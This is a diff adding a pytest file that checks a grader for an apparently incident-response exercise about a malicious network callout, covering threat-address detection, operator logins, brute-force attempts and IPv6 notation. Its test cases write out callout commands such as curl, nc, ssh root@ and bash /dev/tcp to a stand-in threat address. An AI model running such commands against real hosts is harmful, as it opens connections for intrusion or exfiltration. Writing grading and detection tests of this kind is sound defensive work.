@@ -1,0 +1,205 @@
+"""How the first scenario reads its evidence, in cases that its samples do not have."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from labkit.errors import GraderError
+from labkit.grading import checks, samples
+from labkit.grading.verdicts import judge
+from labkit.model import Answer, Dossier, Evidence, FlowRecord, Outcome, Run
+
+FOLDER = Path(__file__).resolve().parents[2] / "checks" / "malicious_callout"
+FILES = {file.name: file for file in checks.load(FOLDER)}
+incident: Any = checks.load_module(FOLDER, "incident")
+
+THREAT, OPERATOR, SERVER = "198.51.100.77", "192.0.2.45", "10.20.0.11"
+
+
+@pytest.fixture
+def evidence() -> Evidence:
+    return samples.evidence(FOLDER / "samples" / "one_run")
+
+
+def outcome(task: str, evidence: Evidence, *values: str) -> Outcome:
+    found = judge(FILES[task], Dossier(evidence, (Answer(task, values),)))
+    assert found is not None
+    return found.outcome
+
+
+def call(evidence: Evidence) -> FlowRecord:
+    return next(record for record in evidence.flows if record.destination == THREAT)
+
+
+def login(evidence: Evidence) -> FlowRecord:
+    return next(record for record in evidence.flows if record.destination == OPERATOR)
+
+
+def with_flows(evidence: Evidence, *flows: FlowRecord) -> Evidence:
+    return replace(evidence, flows=(*flows, *evidence.flows))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"curl {THREAT}",
+        f"curl -s http://{THREAT}:8080/x",
+        f"wget -q -O- 'http://user@{THREAT}/x'",
+        f"nc -w1 {THREAT} 443 </dev/null",
+        f"sudo -u nobody ping -c1 {THREAT}",
+        f"ssh root@{THREAT}",
+        f"A=1 nohup python3 -c 'import urllib.request as u; u.urlopen(\"http://{THREAT}\")' &",
+        f"bash -c 'exec 3<>/dev/tcp/{THREAT}/80'",
+        f"echo hello > /dev/tcp/{THREAT}/80",
+        f"echo start; curl {THREAT}",
+        f"echo {THREAT} && curl --resolve evil.example:80:{THREAT} http://evil.example/",
+        f"while sleep 1; do curl {THREAT}; done",
+        f'curl "http://{THREAT}/unfinished',
+    ],
+)
+def test_any_program_that_is_given_a_listed_address_calls_out(
+    evidence: Evidence, command: str
+) -> None:
+    record = replace(evidence.commands[-1], command=command)
+
+    assert incident.address_called(record, evidence.threat_addresses) == THREAT
+    assert outcome("command", replace(evidence, commands=(record,)), command) is Outcome.PASSED
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"echo {THREAT}",
+        f"sudo grep {THREAT} /var/log/messages",
+        f"cat /etc/hosts # {THREAT.replace('77', '7')}",
+        f"printf '%s\\n' {THREAT} > list.txt",
+        f"curl http://{THREAT}0/",
+        f"curl http://1{THREAT}/",
+        f"curl {THREAT}.9",
+        "curl http://192.0.2.1/",
+        "",
+    ],
+)
+def test_naming_a_listed_address_is_not_calling_it(evidence: Evidence, command: str) -> None:
+    record = replace(evidence.commands[-1], command=command)
+
+    assert incident.address_called(record, evidence.threat_addresses) is None
+
+
+@pytest.mark.parametrize("status", [126, 127])
+def test_a_program_that_could_not_be_run_called_nobody(evidence: Evidence, status: int) -> None:
+    record = replace(evidence.commands[-1], exit_status=status)
+
+    assert incident.address_called(record, evidence.threat_addresses) is None
+    assert incident.address_called(replace(record, exit_status=28), evidence.threat_addresses)
+
+
+def test_without_a_call_in_the_log_the_grader_cannot_judge(evidence: Evidence) -> None:
+    silent = replace(evidence, commands=evidence.commands[:-1])
+    no_flows = replace(evidence, flows=tuple(f for f in evidence.flows if f.destination != THREAT))
+
+    assert outcome("command", silent, "id") is Outcome.ERROR
+    assert outcome("callout_address", no_flows, THREAT) is Outcome.ERROR
+    assert outcome("operator_address", no_flows, OPERATOR) is Outcome.ERROR
+    with pytest.raises(GraderError):
+        incident.callouts(silent)
+
+
+def test_a_reply_to_somebody_on_the_list_is_no_call(evidence: Evidence) -> None:
+    other = "203.0.113.200"
+    reply = call(evidence)._replace(destination=other, source_port=22, destination_port=51000)
+
+    assert outcome("callout_address", with_flows(evidence, reply), other) is Outcome.WRONG
+
+
+def test_the_operators_conversation_counts_in_either_direction(evidence: Evidence) -> None:
+    for direction in ("source", "destination"):
+        kept = tuple(f for f in evidence.flows if getattr(f, direction) != OPERATOR)
+
+        assert (
+            outcome("operator_address", replace(evidence, flows=kept), OPERATOR) is Outcome.PASSED
+        )
+
+
+def test_a_login_in_an_earlier_window_counts_if_none_is_in_the_calls(evidence: Evidence) -> None:
+    minute = timedelta(minutes=1)
+    moved = tuple(
+        f._replace(started_at=f.started_at - minute, ended_at=f.ended_at - minute)
+        if OPERATOR in (f.source, f.destination)
+        else f
+        for f in evidence.flows
+        if "192.0.2.210" not in (f.source, f.destination)
+    )
+    later = login(evidence)._replace(
+        destination="192.0.2.99", bytes=10**6, started_at=call(evidence).ended_at + minute
+    )
+    before_all = replace(
+        evidence,
+        flows=(
+            later,
+            *(f for f in moved if f.source != "192.0.2.10" and f.destination != "192.0.2.10"),
+        ),
+    )
+
+    assert outcome("operator_address", before_all, OPERATOR) is Outcome.PASSED
+    assert outcome("operator_address", before_all, "192.0.2.99") is Outcome.WRONG
+
+
+def test_many_small_attempts_are_not_one_long_login(evidence: Evidence) -> None:
+    """Somebody who guesses passwords opens a conversation for each guess."""
+    guesses = [
+        login(evidence)._replace(destination="192.0.2.66", destination_port=40000 + n, bytes=3000)
+        for n in range(50)
+    ]
+    guessed = with_flows(evidence, *guesses)
+
+    assert outcome("operator_address", guessed, OPERATOR) is Outcome.PASSED
+    assert outcome("operator_address", guessed, "192.0.2.66") is Outcome.WRONG
+
+
+def test_what_was_rejected_is_no_login_however_much_it_was(evidence: Evidence) -> None:
+    flood = login(evidence)._replace(
+        source="192.0.2.66", destination=SERVER, source_port=4000, destination_port=22,
+        bytes=10**7, action="REJECT",
+    )  # fmt: skip
+
+    assert outcome("operator_address", with_flows(evidence, flood), OPERATOR) is Outcome.PASSED
+
+
+def test_a_login_to_another_server_is_not_the_operators(evidence: Evidence) -> None:
+    other = login(evidence)._replace(
+        interface_id=evidence.instances[1].interface_id, source="10.20.0.12",
+        destination="192.0.2.66", bytes=10**7,
+    )  # fmt: skip
+
+    assert outcome("operator_address", with_flows(evidence, other), OPERATOR) is Outcome.PASSED
+
+
+def test_a_run_by_run_command_has_no_operator_and_others_still_have() -> None:
+    two = samples.evidence(FOLDER / "samples" / "two_runs")
+    first, second = two.runs
+    mixed = replace(two, runs=(replace(first, via="ssm"), second))
+
+    assert outcome("operator_address", mixed, "192.0.2.46") is Outcome.PASSED
+    assert outcome("operator_address", mixed, "192.0.2.45") is Outcome.WRONG
+    only: tuple[Run, ...] = tuple(replace(run, via="ssm") for run in two.runs)
+    assert judge(FILES["operator_address"], Dossier(replace(two, runs=only))) is None
+
+
+def test_ipv6_callers_and_operators_are_compared_in_one_notation(evidence: Evidence) -> None:
+    operator = "2001:db8::5"
+    flows = tuple(
+        f._replace(
+            **{end: operator for end in ("source", "destination") if getattr(f, end) == OPERATOR}
+        )
+        for f in evidence.flows
+    )
+
+    found = outcome("operator_address", replace(evidence, flows=flows), "[2001:DB8:0::5]:50387")
+
+    assert found is Outcome.PASSED
